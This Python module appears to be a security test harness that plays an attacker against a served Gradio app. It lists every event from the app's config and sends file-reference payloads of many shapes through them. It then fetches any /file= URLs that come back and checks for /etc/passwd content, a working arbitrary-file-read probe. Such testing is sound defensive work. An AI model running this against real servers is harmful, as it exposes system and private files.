"""An anonymous (or logged-in) caller of a served Gradio app, speaking its HTTP API directly, as an
attacker would: every event of the page config, by ``fn_index``, with any payload.

    events = app_events(base_url)                       # the dependencies of /config
    status, text = call_event(base_url, ev, data)       # the event's response text, queued or not
"""
from __future__ import annotations

import json
import re
import secrets
import time
from typing import Any

import httpx

SECRET_LINE = "root:x:0:0"  # a line of /etc/passwd


def app_config(base: str, client: httpx.Client | None = None) -> dict:
    c = client or httpx.Client()
    r = c.get(base.rstrip("/") + "/config")
    r.raise_for_status()
    return r.json()


def app_events(base: str, client: httpx.Client | None = None) -> list[dict]:
    """Every event listener of the app (built-in ones such as undo, retry, like and clear included)."""
    cfg = app_config(base, client)
    out = []
    for i, dep in enumerate(cfg["dependencies"]):
        out.append({"fn_index": dep.get("id", i), "inputs": list(dep.get("inputs") or []),
                    "queue": dep.get("queue") is not False, "api_name": dep.get("api_name"),
                    "targets": dep.get("targets")})
    return out


def file_data(path: str) -> dict:
    return {"path": path, "orig_name": path.rsplit("/", 1)[-1] or "x", "meta": {"_type": "gradio.FileData"}}


def payloads(path: str) -> list[Any]:
    """The shapes a file reference can take in an input: a file, a list of files, a chat history with a
    file turn (the shape that leaked through the chatbot's undo), a component value wrapper, a message."""
    fd = file_data(path)
    return [
        fd,
        [fd],
        [{"role": "user", "content": [{"type": "file", "file": fd}]}, {"role": "assistant", "content": "ok"}],
        [{"role": "user", "content": {"type": "file", "file": fd}}, {"role": "assistant", "content": "ok"}],
        [{"role": "user", "content": fd}, {"role": "assistant", "content": [{"type": "text", "text": "ok"}]}],
        [{"role": "user", "content": [{"type": "file", "file": fd}]}, {"role": "assistant", "content": "ok"},
         {"role": "user", "content": "and?"}],
        [{"role": "user", "content": [fd]}, {"role": "assistant", "content": "ok"}],
        {"text": "hi", "files": [fd]},
        {"value": fd},
    ]


def call_event(base: str, event: dict, data: list, *, client: httpx.Client | None = None,
               session_hash: str | None = None, timeout: float = 60.0, event_data: Any = None) -> tuple[int, str]:
    """Runs one event and returns (HTTP status, every byte of response text it produced)."""
    c = client or httpx.Client(timeout=timeout)
    base = base.rstrip("/")
    sh = session_hash or secrets.token_hex(6)
    body = {"data": data, "fn_index": event["fn_index"], "session_hash": sh, "event_data": event_data,
            "trigger_id": (event.get("targets") or [[None]])[0][0] if event.get("targets") else None}
    if not event["queue"]:
        r = c.post(f"{base}/gradio_api/run/predict", json=body)
        return r.status_code, r.text
    r = c.post(f"{base}/gradio_api/queue/join", json=body)
    if r.status_code != 200:
        return r.status_code, r.text
    event_id = r.json().get("event_id")
    texts = [r.text]
    deadline = time.monotonic() + timeout
    with c.stream("GET", f"{base}/gradio_api/queue/data", params={"session_hash": sh}, timeout=timeout) as s:
        for line in s.iter_lines():
            texts.append(line)
            if not line.startswith("data:"):
                continue
            try:
                msg = json.loads(line[5:])
            except ValueError:
                continue
            if msg.get("msg") in ("process_completed", "close_stream") and msg.get("event_id", event_id) == event_id:
                break
            if msg.get("msg") == "unexpected_error" or time.monotonic() > deadline:
                break
    return 200, "\n".join(texts)


FILE_URL = re.compile(r"(?:/gradio_api)?/file=([^\"'\s)\\]+)")


def served_files(base: str, text: str, client: httpx.Client | None = None) -> list[tuple[str, int, bytes]]:
    """Every /file= URL a response named, fetched: (url, status, first bytes)."""
    c = client or httpx.Client()
    out = []
    for m in set(FILE_URL.findall(text)):
        url = f"{base.rstrip('/')}/gradio_api/file={m}"
        r = c.get(url)
        out.append((url, r.status_code, r.content[:4096]))
    return out
